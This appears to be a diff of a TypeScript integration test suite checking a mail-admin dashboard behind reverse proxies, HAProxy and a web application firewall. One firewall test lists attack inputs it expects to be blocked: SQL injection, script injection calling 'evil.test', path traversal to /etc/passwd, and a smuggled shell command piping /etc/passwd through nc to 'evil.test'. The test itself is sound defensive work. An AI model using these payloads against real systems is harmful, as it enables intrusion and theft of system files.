@@ -1,22 +1,32 @@
 import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
 import { after, before, describe, test } from "node:test";
 import type { EventItem } from "../../src/wire/control/items.ts";
+import { logIn, openImap, sendMail } from "../lab/mail.ts";
+import { believe, MAIL_PROXY, MailProxy } from "../lab/mail-proxy.ts";
+import { mailProxyTests } from "../lab/mail-proxy-tests.ts";
 import { SERVER, whyNoLab } from "../lab/network.ts";
 import { ADMIN_PASSWORD } from "../lab/product.ts";
 import { DASHBOARD, ReverseProxy } from "../lab/reverse-proxy.ts";
 import { until } from "../lab/wait.ts";
 import { serverSent, type WebAnswer, WebClient } from "../lab/web-client.ts";
+import { Description } from "../lab/web-description.ts";
+import { ANNA, GUEST, visits } from "../lab/web-visits.ts";
 import { withProduct } from "../lab/with-product.ts";
 
 const ANYWHERE = "192.0.2.77";
 const LOGIN = "/api/v1/login";
 
 describe("behind a reverse proxy as documented", { skip: whyNoLab() ?? false }, () => {
-  const { lab, product } = withProduct({
-    GHOSTINBOX_HTTP__TRUSTED_PROXIES: "127.0.0.1,::1",
-    // Reached past the proxy too, as a mistake in a firewall would have it.
-    GHOSTINBOX_HTTP__ADDRESS: "0.0.0.0",
-  });
+  const { lab, product } = withProduct(
+    {
+      GHOSTINBOX_HTTP__TRUSTED_PROXIES: "127.0.0.1,::1",
+      // Reached past the proxy too, as a mistake in a firewall would have it.
+      GHOSTINBOX_HTTP__ADDRESS: "0.0.0.0",
+    },
+    [ANNA],
+  );
 
   const browser = (from: string): Promise<WebClient> => {
     const host = from.startsWith("198.51.100.2") ? lab.attacker : lab.sender;
@@ -44,13 +54,17 @@ describe("behind a reverse proxy as documented", { skip: whyNoLab() ?? false }, 
 
       test("the page is there, and its owner signs in from the address that the events name", async () => {
         const web = await browser(owner);
-        assert.match((await web.ask("GET", "/")).text, /<title>/);
+        const page = await web.ask("GET", "/");
+        assert.match(page.text, /<title>/);
+        for (const answer of [page, await web.ask("GET", "/nowhere")])
+          assert.equal(answer.headers["strict-transport-security"], "max-age=31536000", `${answer.status}`);
         const signedIn = await signIn(web, ADMIN_PASSWORD);
         assert.equal(signedIn.status, 200, signedIn.text);
         const [cookie = ""] = (signedIn.headers["set-cookie"] ?? "").split("\n");
         assert.match(cookie, /; Secure$/, "it knows of the TLS in front of it");
         const session = web.with({ cookie: cookie.split(";")[0] ?? "" });
-        assert.deepEqual((await session.ask("GET", "/api/v1/session")).json(), { name: "admin" });
+        const who = (await session.ask("GET", "/api/v1/session")).json();
+        assert.partialDeepStrictEqual(who, { name: "admin", role: "owner" });
         assert.deepEqual(
           (await signIns(owner)).map(({ type }) => type),
           ["LOGIN_SUCCEEDED"],
@@ -62,6 +76,37 @@ describe("behind a reverse proxy as documented", { skip: whyNoLab() ?? false }, 
         await session.ask("DELETE", `/api/v1/bans/${ANYWHERE}`);
         assert.equal((await session.ask("POST", "/api/v1/bans", { body: { ip: owner } })).status, 409, "at work");
       });
+
+      test("a visitor by http is sent to https", async () => {
+        const plain = await WebClient.from(lab.sender, { from: owner, to: SERVER.v4, port: 80 });
+        const { status, headers } = await plain.ask("GET", "/?x=1", { headers: { host: DASHBOARD } });
+        assert.ok([301, 308].includes(status), `${status}`);
+        assert.equal(headers["location"], `https://${DASHBOARD}/?x=1`);
+      });
+
+      if (kind === "nginx")
+        test("below a path of the proxy the page, its sign-in and the description lead nowhere else", async () => {
+          const web = await browser(owner);
+          const at = (path: string) => new URL(path, `https://${DASHBOARD}/mail-admin/`).pathname;
+          const page = await web.ask("GET", at("."));
+          const named = [...page.text.matchAll(/(?:src|href)="([^"]+)"/g)].map(([, path = ""]) => path);
+          assert.ok(named.length >= 2, page.text);
+          for (const path of named) {
+            assert.ok(at(path).startsWith("/mail-admin/"), path);
+            assert.equal((await web.ask("GET", at(path))).status, 200, path);
+          }
+          const signedIn = await web.ask("POST", at("api/v1/login"), {
+            body: new URLSearchParams({ password: ADMIN_PASSWORD }).toString(),
+            headers: { origin: `https://${DASHBOARD}`, "content-type": "application/x-www-form-urlencoded" },
+          });
+          assert.equal(signedIn.status, 303, signedIn.text);
+          const login = new URL(at("api/v1/login"), `https://${DASHBOARD}`);
+          assert.equal(new URL(signedIn.headers["location"] ?? "", login).pathname, "/mail-admin/");
+          const cookie = signedIn.headers["set-cookie"]?.split(";")[0] ?? "";
+          const described = await web.ask("GET", at("openapi.json"), { headers: { cookie } });
+          assert.partialDeepStrictEqual(described.json(), { servers: [{ url: "." }] });
+          assert.equal(at("."), "/mail-admin/");
+        });
 
       test("the live stream comes through at once", async () => {
         const token = { authorization: `Bearer ${await product.makeToken(`stream-${kind}`)}` };
@@ -97,6 +142,81 @@ describe("behind a reverse proxy as documented", { skip: whyNoLab() ?? false }, 
         assert.equal((await signIn(await browser(other), ADMIN_PASSWORD)).status, 200);
       });
     });
+
+  describe("a web application firewall", () => {
+    let proxy: ReverseProxy;
+    before(async () => {
+      proxy = await ReverseProxy.start(lab, "waf");
+    });
+    after(() => proxy.stop());
+
+    test("lets every page and every call through as it is", async () => {
+      const { lines } = await sendMail({ host: lab.sender, from: GUEST });
+      const queueId = /queued as (\w+)/.exec(lines.join(" "))?.[1] ?? assert.fail(lines.join(" "));
+      const dialog = await openImap(lab.sender, GUEST);
+      await logIn(dialog, ANNA, "a wrong one");
+      dialog.close();
+      const web = (await browser("198.51.100.74")).with({ origin: `https://${DASHBOARD}`, host: DASHBOARD });
+      const [cookie = ""] = ((await signIn(web, ADMIN_PASSWORD)).headers["set-cookie"] ?? "").split(";");
+      const token = { authorization: `Bearer ${await product.makeToken("waf", "--scope", "owner")}` };
+      const described = new Description((await web.ask("GET", "/openapi.json", { headers: token })).json());
+      const different: string[] = [];
+      for (const [route, asked] of Object.entries(visits(queueId))) {
+        const [method = "", template = ""] = route.split(" ");
+        const isOpen = described.operation(route).security.some((way) => "token" in way);
+        for (const { path = template, body, headers, answers } of asked) {
+          const answer = await web.ask(method, path, {
+            body,
+            headers: { ...(isOpen ? token : { cookie }), ...headers },
+          });
+          // Of a long body that is no JSON the firewall says so before its length is looked at.
+          if (answer.status === answers || (answers === 413 && answer.status === 400)) continue;
+          different.push(`${method} ${path}: ${answer.status} for ${answers} ${answer.text.slice(0, 200)}`);
+        }
+      }
+      assert.deepEqual(different, []);
+    });
+
+    test("refuses attacks before they arrive, and takes a password for one", async () => {
+      const web = (await browser("198.51.100.75")).with({
+        host: DASHBOARD,
+        authorization: `Bearer ${await product.makeToken("attacker")}`,
+      });
+      const attacks: readonly (readonly [string, string, unknown?, Readonly<Record<string, string>>?])[] = [
+        ["GET", "/api/v1/events?ip=1%27%20UNION%20SELECT%20password%20FROM%20admin--%20-"],
+        ["GET", "/api/v1/events?type=%3Cscript%3Ealert(1)%3C%2Fscript%3E"],
+        ["GET", "/?file=..%2f..%2f..%2f..%2fetc%2fpasswd"],
+        ["GET", "/api/v1/why/%2e%2e%2f%2e%2e%2fetc%2fpasswd"],
+        ["POST", "/api/v1/bans", { ip: "192.0.2.99", reason: "1' OR '1'='1' UNION SELECT hash FROM admin --" }],
+        ["POST", "/api/security", { action: "ban", ip: "192.0.2.99", reason: "<script>fetch('//evil.test')</script>" }],
+        ["POST", "/api/v1/bans", { ip: "192.0.2.99", reason: "x; cat /etc/passwd | nc evil.test 1" }],
+        ["GET", "/", undefined, { "user-agent": "sqlmap/1.7" }],
+      ];
+      const passed: string[] = [];
+      for (const [method, path, body, headers = {}] of attacks) {
+        const answer = await web.ask(method, path, { body, headers });
+        const isRefused = answer.status === 403 && /text\/html/.test(answer.headers["content-type"] ?? "");
+        if (!isRefused) passed.push(`${method} ${path} ${JSON.stringify(body)}: ${answer.status}`);
+      }
+      assert.deepEqual(passed, []);
+      assert.equal(await product.banOf("192.0.2.99"), undefined);
+      const odd = await signIn(await browser("198.51.100.75"), "' OR 1=1 -- <script>alert(1)</script>");
+      assert.equal(odd.status, 401, "it reached the server");
+      const log = readFileSync(join(lab.directory, "waf", "modsec_audit.log"), "utf8");
+      assert.match(log, /id "942\d{3}"/);
+      assert.doesNotMatch(log, /Bearer gi_|a long phrase/);
+    });
+  });
+
+  describe("HAProxy before the mail ports", () => {
+    let proxy: MailProxy;
+    before(async () => {
+      proxy = await MailProxy.start(lab);
+      await believe(product, [MAIL_PROXY, "127.0.0.1"]);
+    });
+    after(() => proxy.stop());
+    for (const [says, body] of mailProxyTests({ lab, product }, ANNA)) test(says, body);
+  });
 
   test("a client that comes past the proxy is believed nothing", async () => {
     const from = "198.51.100.90";
